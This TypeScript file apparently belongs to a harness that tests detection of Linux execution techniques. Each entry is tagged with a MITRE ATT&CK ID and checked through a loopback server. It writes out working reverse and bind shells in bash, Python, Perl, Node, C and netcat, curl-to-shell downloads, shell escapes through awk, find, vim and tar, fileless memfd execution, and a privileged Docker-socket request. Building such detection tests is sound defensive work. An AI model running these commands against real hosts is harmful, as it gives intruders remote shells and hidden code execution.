import type { Action } from '../action.ts'
import { eventually, server, webServer } from '../loopback-server.ts'

/** What the server at the other end of a shell sends. */
const commands = 'id >/run/owned; exit\n'
const owned = eventually('grep -q uid= /run/owned 2>/dev/null')

const connectBack = `
#include <arpa/inet.h>
#include <unistd.h>
int main() {
  struct sockaddr_in a = {AF_INET, htons(4444)};
  a.sin_addr.s_addr = inet_addr("198.51.100.7");
  int s = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(s, (struct sockaddr *)&a, sizeof a)) return 1;
  for (int i = 0; i < 3; i++) dup2(s, i);
  return execl("/bin/sh", "sh", (char *)0);
}`

const bindShell = `
#include <arpa/inet.h>
#include <unistd.h>
int main() {
  struct sockaddr_in a = {AF_INET, htons(5555)};
  int s = socket(AF_INET, SOCK_STREAM, 0), c;
  bind(s, (struct sockaddr *)&a, sizeof a);
  listen(s, 1);
  if (fork()) return 0;
  c = accept(s, 0, 0);
  for (int i = 0; i < 3; i++) dup2(c, i);
  return execl("/bin/sh", "sh", (char *)0);
}`

const fromMemory = `
#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <unistd.h>
int main() {
  int m = memfd_create("x", 0), f = open("/usr/bin/id", O_RDONLY);
  while (sendfile(m, f, 0, 1 << 20) > 0);
  char *args[] = {"id", 0}, *env[] = {0};
  return fexecve(m, args, env);
}`

/** Shells, interpreters, and programs that are not files. */
export const execution: readonly Action[] = [
  {
    id: 'bash-dev-tcp',
    title: 'bash connected to a server by a redirection',
    technique: 'T1059.004',
    shell: 'bash',
    before: server(4444, commands),
    run: 'bash -i >&/dev/tcp/198.51.100.7/4444 0>&1',
    effect: owned,
  },
  {
    id: 'bash-builtins-shell',
    title: 'Commands read from a connection and evaluated by the shell itself',
    technique: 'T1059.004',
    shell: 'bash',
    before: server(443, 'echo uid=0 >/run/owned; exit\n'),
    run: 'exec 5<>/dev/tcp/198.51.100.7/443\nwhile read -r line <&5; do eval "$line" >&5 2>&1; done',
    effect: owned,
  },
  {
    id: 'python-socket-shell',
    title: 'Shell on a socket of a Python program',
    technique: 'T1059.006',
    before: server(4444, commands),
    program: {
      language: 'python',
      text: `import os, socket
s = socket.create_connection(("198.51.100.7", 4444))
for i in range(3): os.dup2(s.fileno(), i)
os.execv("/bin/sh", ["sh"])`,
    },
    run: 'python3 $PROGRAM',
    effect: owned,
  },
  {
    id: 'python-command-shell',
    title: 'Shell on a socket of Python code in an argument',
    technique: 'T1059.006',
    needs: ['python3'],
    before: server(4444, commands),
    run: `python3 -c 'import os,pty,socket;s=socket.socket();s.connect(("198.51.100.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execv("/bin/sh",["sh"])'`,
    effect: owned,
  },
  {
    id: 'perl-socket-shell',
    title: 'Shell on a socket of a Perl program',
    technique: 'T1059.004',
    before: server(4444, commands),
    program: {
      language: 'perl',
      text: `use IO::Socket::INET;
$s = IO::Socket::INET->new("198.51.100.7:4444") or die;
open STDIN, "<&", $s; open STDOUT, ">&", $s; open STDERR, ">&", $s;
exec "/bin/sh";`,
    },
    run: 'perl $PROGRAM',
    effect: owned,
  },
  {
    id: 'compiled-connect-back',
    title: 'Shell on a socket of a compiled program',
    technique: 'T1059.004',
    before: server(4444, commands),
    program: { language: 'c', text: connectBack },
    run: '$PROGRAM',
    effect: owned,
  },
  {
    id: 'compiled-bind-shell',
    title: 'Shell of a compiled program that waits for a connection',
    technique: 'T1059.004',
    program: { language: 'c', text: bindShell },
    run: '$PROGRAM',
    effect: `perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new("127.0.0.1:5555") or die; print $s "id >/run/owned\\n"; close $s'\n${owned}`,
  },
  {
    id: 'fifo-netcat-shell',
    title: 'Shell between a named pipe and netcat of busybox',
    technique: 'T1059.004',
    needs: ['busybox'],
    before: server(4444, commands),
    run: 'mkfifo /tmp/f; sh -i </tmp/f 2>&1 | timeout 2 busybox nc 198.51.100.7 4444 >/tmp/f',
    effect: owned,
  },
  {
    id: 'netcat-execute',
    title: 'netcat of busybox starts a shell',
    technique: 'T1059.004',
    needs: ['busybox'],
    before: server(4444, commands),
    run: 'busybox nc 198.51.100.7 4444 -e /bin/sh',
    effect: owned,
  },
  {
    id: 'node-socket-shell',
    title: 'Shell on a socket of JavaScript in an argument',
    technique: 'T1059.007',
    needs: ['node'],
    before: server(4444, commands),
    run: `node -e 'const s=require("net").connect(4444,"198.51.100.7",()=>{const c=require("child_process").spawn("/bin/sh");s.pipe(c.stdin);c.on("exit",()=>process.exit())})'`,
    effect: owned,
  },
  {
    id: 'tcl-socket-shell',
    title: 'Commands of a connection run by Tcl',
    technique: 'T1059',
    needs: ['tclsh'],
    before: server(4444, 'id\n'),
    run: `echo 'set s [socket 198.51.100.7 4444]; exec sh -c [gets $s] >/run/owned' >/tmp/a; tclsh /tmp/a`,
    effect: owned,
  },
  {
    id: 'download-to-shell',
    title: 'Script downloaded by curl and passed to a shell',
    technique: 'T1059.004',
    needs: ['curl'],
    before: webServer(80, commands),
    run: 'curl -s http://198.51.100.7/install.sh | sh',
    effect: owned,
  },
  {
    id: 'download-to-bash-substitution',
    title: 'Script downloaded by wget in a process substitution',
    technique: 'T1059.004',
    needs: ['wget'],
    shell: 'bash',
    before: webServer(80, commands),
    run: 'bash <(wget -qO- http://198.51.100.7/a)',
    effect: owned,
  },
  {
    id: 'download-evaluated',
    title: 'Script downloaded and evaluated by the shell itself',
    technique: 'T1059.004',
    needs: ['curl'],
    before: webServer(80, 'echo uid=0 >/run/owned\n'),
    run: 'eval "$(curl -s http://198.51.100.7/a)"',
    effect: owned,
  },
  {
    id: 'awk-starts-shell',
    title: 'Shell started by awk',
    technique: 'T1059.004',
    needs: ['awk'],
    run: `awk 'BEGIN { system("/bin/sh -c id") }'`,
    effect: 'grep -q uid= $OUT',
  },
  {
    id: 'find-starts-shell',
    title: 'Shell started by find',
    technique: 'T1059.004',
    run: 'find /etc/passwd -exec /bin/sh -c id ";"',
    effect: 'grep -q uid= $OUT',
  },
  {
    id: 'vim-starts-shell',
    title: 'Shell started by an editor',
    technique: 'T1059.004',
    needs: ['vim'],
    run: `vim -es -c ':!/bin/sh -c "id >/run/owned"' -c ':q!'`,
    effect: owned,
  },
  {
    id: 'tar-starts-shell',
    title: 'Shell started by a checkpoint of tar',
    technique: 'T1059.004',
    run: `tar -cf /dev/null /etc/hostname --checkpoint=1 --checkpoint-action=exec='sh -c "id >/run/owned"'`,
    effect: owned,
  },
  {
    id: 'python-terminal',
    title: 'Terminal for a shell by Python',
    technique: 'T1059.006',
    needs: ['python3'],
    run: `python3 -c 'import pty; pty.spawn(["/bin/sh", "-c", "id >/run/owned"])'`,
    effect: owned,
  },
  {
    id: 'script-terminal',
    title: 'Terminal for a shell by script',
    technique: 'T1059.004',
    needs: ['script'],
    run: `script -qc '/bin/sh -c "id >/run/owned"' /dev/null`,
    effect: owned,
  },
  {
    id: 'python-encoded-text',
    title: 'Python code decoded from an argument',
    technique: 'T1059.006',
    needs: ['python3'],
    run: `python3 -c 'import base64; exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkID4vcnVuL293bmVkIik="))'`,
    effect: owned,
  },
  {
    id: 'memory-program-in-c',
    title: 'Program started from a file in memory, in C',
    technique: 'T1620',
    program: { language: 'c', text: fromMemory },
    run: '$PROGRAM',
    effect: 'grep -q uid= $OUT',
  },
  {
    id: 'memory-program-in-python',
    title: 'Program started from a file in memory, in Python',
    technique: 'T1620',
    program: {
      language: 'python',
      text: `import os
m = os.memfd_create("x")
os.write(m, open("/usr/bin/id", "rb").read())
os.execv("/proc/self/fd/%d" % m, ["id"])`,
    },
    run: 'python3 $PROGRAM',
    effect: 'grep -q uid= $OUT',
  },
  {
    id: 'memory-program-in-perl',
    title: 'Program started from a file in memory, in Perl',
    technique: 'T1620',
    requires: '[ "$(uname -m)" = x86_64 ] || { echo another processor; false; }',
    program: {
      language: 'perl',
      text: `$n = "x"; $m = syscall(319, $n, 0); open F, ">&=", $m; open I, "/usr/bin/id";
binmode F; local $/; print F <I>; F->flush; exec {"/proc/$$/fd/$m"} "id";`,
    },
    run: 'perl -MIO::Handle $PROGRAM',
    effect: 'grep -q uid= $OUT',
  },
  {
    id: 'shared-memory-program',
    title: 'Program started from the folder for shared memory',
    technique: 'T1564.001',
    run: 'cp /usr/bin/id /dev/shm/.cache; /dev/shm/.cache',
    effect: 'grep -q uid= $OUT',
  },
  {
    id: 'anonymous-program',
    title: 'Program that is removed before it is started',
    technique: 'T1070.004',
    program: {
      language: 'python',
      text: `import os
open("/tmp/x", "wb").write(open("/usr/bin/id", "rb").read()); os.chmod("/tmp/x", 0o755)
f = os.open("/tmp/x", os.O_PATH); os.unlink("/tmp/x")
os.execve("/proc/self/fd/%d" % f, ["id"], {})`,
    },
    run: 'python3 $PROGRAM',
    effect: 'grep -q uid= $OUT',
  },
  {
    id: 'linker-starts-program',
    title: 'Program without execute permission started by the dynamic linker',
    technique: 'T1218',
    requires: '[ -x /lib64/ld-linux-x86-64.so.2 ] || { echo another linker; false; }',
    run: 'cp /usr/bin/id /tmp/data; chmod 644 /tmp/data; /lib64/ld-linux-x86-64.so.2 /tmp/data',
    effect: 'grep -q uid= $OUT',
  },
  {
    id: 'server-starts-shell',
    title: 'Shell started by a web server',
    technique: 'T1505.003',
    run: `cp /usr/bin/perl /usr/sbin/apache2
echo 'system("sh", "-c", "id; uname -a"); 1' >/tmp/handler
/usr/sbin/apache2 /tmp/handler`,
    effect: 'grep -q uid= $OUT',
  },
  {
    id: 'at-job-file',
    title: 'Job for at written to its folder',
    technique: 'T1053.002',
    run: "mkdir -p /var/spool/at; echo '#!/bin/sh\nid' >/var/spool/at/a00001",
    effect: '[ -s /var/spool/at/a00001 ]',
  },
  {
    id: 'container-socket',
    title: 'Container runtime asked by its socket to start a container',
    technique: 'T1610',
    needs: ['curl'],
    before: `perl -MIO::Socket::UNIX -e '$s = IO::Socket::UNIX->new(Local => "/run/docker.sock", Listen => 1); exit if fork; $c = $s->accept; sysread $c, $b, 999; open F, ">/run/got"; print F $b; close F; print $c "HTTP/1.0 200 OK\\r\\n\\r\\n{}"'`,
    run: `curl -s --unix-socket /run/docker.sock -X POST -d '{"Image":"alpine","HostConfig":{"Privileged":true}}' http://localhost/containers/create`,
    effect: 'grep -q Privileged /run/got',
  },
]
